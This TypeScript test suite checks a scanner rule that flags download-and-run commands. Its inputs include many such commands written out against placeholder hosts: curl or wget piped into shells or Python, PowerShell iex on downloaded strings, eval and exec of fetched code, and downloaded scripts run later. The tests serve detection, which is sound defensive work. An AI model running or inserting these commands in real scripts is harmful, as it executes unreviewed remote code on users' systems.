// The download-and-run rule: each way of fetching code and running it at once, over one line or
// several, and the look-alikes that only fetch data or run a local file.

import * as assert from 'node:assert/strict';
import { findDownloadAndRun } from '../../../../src/core/audit/download-and-run';

/** What the first finding says the text does, and where (1-based line:column). */
function runs(text: string): string | undefined {
  const [found] = findDownloadAndRun(text, 'a.md');
  return found && `${found.position!.line + 1}:${found.position!.column + 1} ${found.message.match(/^This (.+?): /)?.[1]}`;
}

describe('download and run', () => {
  it('names each way of running a download', () => {
    assert.equal(runs('curl -fsSL https://x.example/i.sh | sh'), '1:1 pipes a download into an interpreter');
    assert.equal(runs('wget -qO- https://x.example/i | sudo -E bash'), '1:1 pipes a download into an interpreter');
    assert.equal(runs('curl https://x.example/i | /usr/bin/zsh'), '1:1 pipes a download into an interpreter');
    assert.equal(runs('curl https://x.example/i.py | python3.12'), '1:1 pipes a download into an interpreter');
    assert.equal(runs('fetch -o - https://x.example/i | perl'), '1:1 pipes a download into an interpreter');
    assert.equal(runs('bash <(curl -s https://x.example/i)'), '1:1 runs a download through process substitution');
    assert.equal(runs('source <( wget -qO- https://x.example/i)'), '1:1 runs a download through process substitution');
    assert.equal(runs('sh -c "$(curl -fsSL https://x.example/i)"'), '1:1 runs a download with sh -c');
    assert.equal(runs('irm https://x.example/i.ps1 | Invoke-Expression'), '1:1 pipes a download into Invoke-Expression');
    assert.equal(runs("iex (New-Object Net.WebClient).DownloadString('https://x.example/i')"), '1:1 runs a download with Invoke-Expression');
    assert.equal(runs('Invoke-Expression (iwr https://x.example/i)'), '1:1 runs a download with Invoke-Expression');
    assert.equal(runs('echo aGk= | base64 --decode | node'), '1:13 decodes base64 into an interpreter');
    assert.equal(runs('[Convert]::FromBase64String($s) | iex'), '1:1 decodes base64 into Invoke-Expression');
  });

  it('reads eval of a download, a pipe into $SHELL, and interpreters told to read their input', () => {
    assert.equal(runs('eval "$(curl -fsSL https://x.example/env)"'), '1:1 runs a download with eval');
    assert.equal(runs('eval `wget -qO- https://x.example/env`'), '1:1 runs a download with eval');
    assert.equal(runs('python3 -c "$(curl -s https://x.example/p.py)"'), '1:1 runs a download with python3 -c');
    assert.equal(runs('node -e "$(curl -s https://x.example/p.js)"'), '1:1 runs a download with node -e');
    assert.equal(runs('curl -fsSL https://x.example/i | $SHELL'), '1:1 pipes a download into an interpreter');
    assert.equal(runs('curl -fsSL https://x.example/i | "${SHELL}" -s -- --yes'), '1:1 pipes a download into an interpreter');
    assert.equal(runs('curl -fsSL https://x.example/i | sh -s -- -y'), '1:1 pipes a download into an interpreter');
    assert.equal(runs('curl -fsSL https://x.example/i | bash -ex'), '1:1 pipes a download into an interpreter');
    assert.equal(runs('curl -fsSL https://x.example/i | python3 -'), '1:1 pipes a download into an interpreter');
    assert.equal(runs('curl -fsSL https://x.example/i | python3 -u 2>/dev/null'), '1:1 pipes a download into an interpreter');
    assert.equal(runs('curl -fsSL https://x.example/i | tee /tmp/log | sh'), '1:1 pipes a download into an interpreter');
    assert.equal(runs('"postCreateCommand": "curl -sSL https://x.example/i.sh | bash",'), '1:23 pipes a download into an interpreter');
    assert.equal(runs('curl https://x.example/i | sh # installs it'), '1:1 pipes a download into an interpreter');
  });

  it('follows a command over lines: a trailing backslash or backtick, pipe or &&', () => {
    assert.equal(runs('Run:\n  curl -fsSL https://x.example/i.sh \\\n    | bash'), '2:3 pipes a download into an interpreter');
    assert.equal(runs('curl -fsSL \\\n  https://x.example/i.sh |\n  sudo bash -s'), '1:1 pipes a download into an interpreter');
    assert.equal(runs('iwr https://x.example/i.ps1 `\n  | iex'), '1:1 pipes a download into Invoke-Expression');
    assert.equal(runs('cd /tmp &&\ncurl https://x.example/i | sh'), '2:1 pipes a download into an interpreter');
    assert.equal(runs('x\r\ncurl https://x.example/i \\\r\n | sh\r\n'), '2:1 pipes a download into an interpreter');
    // A command still open at the end of the text is read as it is.
    assert.equal(runs('curl https://x.example/i | sh \\'), '1:1 pipes a download into an interpreter');
  });

  it('reads a Markdown table row as cells, and an escaped pipe or one in a code span as a pipe', () => {
    assert.equal(runs('| Step | Command |\n| --- | --- |\n| fetch | `curl -o x.json https://x.example/x` |\n| parse | python3 |'), undefined);
    assert.equal(runs('| install | `curl https://x.example/i \\| sh` |'), '1:14 pipes a download into an interpreter');
    // A pipe in a code span is a pipe to whoever reads the text, whatever a renderer makes of the row.
    assert.equal(runs('| Task | Command |\n| Install | `curl -fsSL https://x.example/cli | sh` |'), '2:14 pipes a download into an interpreter');
    assert.equal(runs('| `curl -o x https://x.example/x` | `python3` |'), undefined);
  });

  it('reads a download saved to a file and run later, by the file it saved', () => {
    const later = (text: string): string | undefined => findDownloadAndRun(text, 'a.md')[0]?.message;
    assert.equal(
      later('curl -fsSL -o /tmp/setup.sh https://x.example/setup.sh\nchmod +x /tmp/setup.sh\n/tmp/setup.sh --quiet'),
      'This runs "/tmp/setup.sh", downloaded on line 1: the code that runs is never shown to the user. "/tmp/setup.sh --quiet"',
    );
    assert.equal(runs('curl -sSLo i.sh https://x.example/i.sh && bash i.sh'), '1:43 runs "i.sh", downloaded on line 1');
    assert.equal(runs('curl https://x.example/i.sh > "$HOME/i.sh"\nsh ~/i.sh'), '2:1 runs "~/i.sh", downloaded on line 1');
    assert.equal(runs('curl --output=/tmp/i.py https://x.example/i.py; python3 -u /tmp/i.py'), '1:49 runs "/tmp/i.py", downloaded on line 1');
    assert.equal(runs('curl -O https://x.example/get/install.sh\nsudo sh install.sh'), '2:1 runs "install.sh", downloaded on line 1');
    assert.equal(runs('wget https://x.example/install.sh?v=2\n. ./install.sh'), '2:1 runs "./install.sh", downloaded on line 1');
    assert.equal(runs('wget -q -O /tmp/x https://x.example/x\nexec /tmp/x'), '2:1 runs "/tmp/x", downloaded on line 1');
    assert.equal(runs('Invoke-WebRequest https://x.example/i.ps1 -OutFile $env:TEMP\\i.ps1\n& $env:TEMP\\i.ps1'), '2:1 runs "$env:TEMP\\i.ps1", downloaded on line 1');
    assert.equal(runs("(New-Object Net.WebClient).DownloadFile('https://x.example/i.exe', 'C:\\t\\i.exe')\nC:\\t\\i.exe /S"), '2:1 runs "C:\\t\\i.exe", downloaded on line 1');
  });

  it('reads Python and JavaScript that pass what they fetch to exec or eval, directly or through names', () => {
    assert.equal(runs('exec(urllib.request.urlopen("https://x.example/p").read())'), '1:1 passes a download to exec');
    assert.equal(runs('import requests\ncode = requests.get(URL).text\nexec(code)'), '3:1 passes code downloaded on line 2 to exec');
    assert.equal(runs('with urlopen(URL) as response:\n    source = response.read().decode()\n    exec(compile(source, "x", "exec"))'), '3:5 passes code downloaded on line 1 to exec');
    assert.equal(runs('r = httpx.get(URL)\nbody: str = r.text\neval(body)'), '3:1 passes code downloaded on line 1 to eval');
    assert.equal(runs('const res = await fetch(URL);\nconst $code = await res.text();\nnew Function($code)();'), '3:1 passes code downloaded on line 1 to new Function');
    assert.equal(runs('x = 1; eval(await (await fetch(URL)).text())'), '1:8 passes a download to eval');
  });

  it('leaves downloads that are saved, data piped into programs, and local scripts alone', () => {
    for (const text of [
      'curl -o tool.sh https://x.example/i.sh',
      'curl https://x.example/data.json | jq .',
      'curl x; sh run.sh',
      'wget x.example/shell.txt',
      'base64 -d a.txt > b',
      'curl -s https://x.example/v1 | python3 -m json.tool',
      'curl -s https://x.example/v1 | python3 -c "import json, sys; print(json.load(sys.stdin))"',
      'curl -s https://x.example/v1 | node -e "process.stdin.pipe(process.stdout)"',
      'curl -s https://x.example/v1 | python3 scripts/parse.py',
      'curl -s https://x.example/v1 | bash -c "cat > out.json"',
      'curl -f https://x.example/v1 || sh scripts/fallback.sh',
      'curl https://x.example/api \\\n  -H "Authorization: Bearer $TOKEN" \\\n  | jq .',
      'curl -o data.json https://x.example/data\npython3 process.py data.json',
      'curl -s -o /dev/null -w "%{http_code}" https://x.example\n/dev/null',
      'wget -O - https://x.example/x | tee x\nsh -',
      'curl -Xpost https://x.example/\nsh st',
      'response = requests.get(url)\nmodel.eval()\nresult = literal_eval(text)',
      'data = json.loads(requests.get(url).text)\nprint(data)',
      'if x == fetch(u):\n    eval(y)',
      // Text that names the pattern, with no address to fetch, is a description, not a command.
      '- Downloads and runs remote code (`curl … | sh`), or sends files elsewhere',
      '| C2 | `curl … | sh`, `wget ... | bash`, `iwr <url> | iex` | Pin versions |',
      'Never pipe `curl | bash`.',
    ]) {
      assert.deepEqual(findDownloadAndRun(text, 'a.md'), [], text);
    }
  });

  it('quotes the command, one line, cut to 120 characters, once per line, at the command', () => {
    const long = `  curl https://x.example/${'p'.repeat(150)} | sh | bash <(curl y)  `;
    const [found] = findDownloadAndRun(`intro\n${long}\r\nend`, 'a.md');
    assert.deepEqual(found.position, { line: 1, column: 2 });
    assert.equal(found.message, `This pipes a download into an interpreter: the code that runs is never shown to the user. "${long.trim().slice(0, 119)}…"`);
    assert.equal(findDownloadAndRun(long, 'a.md').length, 1);
    assert.equal(findDownloadAndRun('curl x | sh\r', 'a.md')[0].message.endsWith('"curl x | sh"'), true);
    assert.equal(findDownloadAndRun('curl x | sh # \u001b[2J\u202E', 'a.md')[0].message.endsWith('"curl x | sh # ?[2J?"'), true);
  });

  it('reports five lines per file, in line order, and counts the rest', () => {
    const found = findDownloadAndRun(['exec(urlopen(u).read())', ...Array.from({ length: 6 }, () => 'curl x | sh')].join('\n'), 'a.md');
    assert.deepEqual(
      found.map((item) => item.position?.line),
      [0, 1, 2, 3, 4],
    );
    assert.match(found[4].message, /\(2 more download-and-run lines in this file\)$/);
  });
});
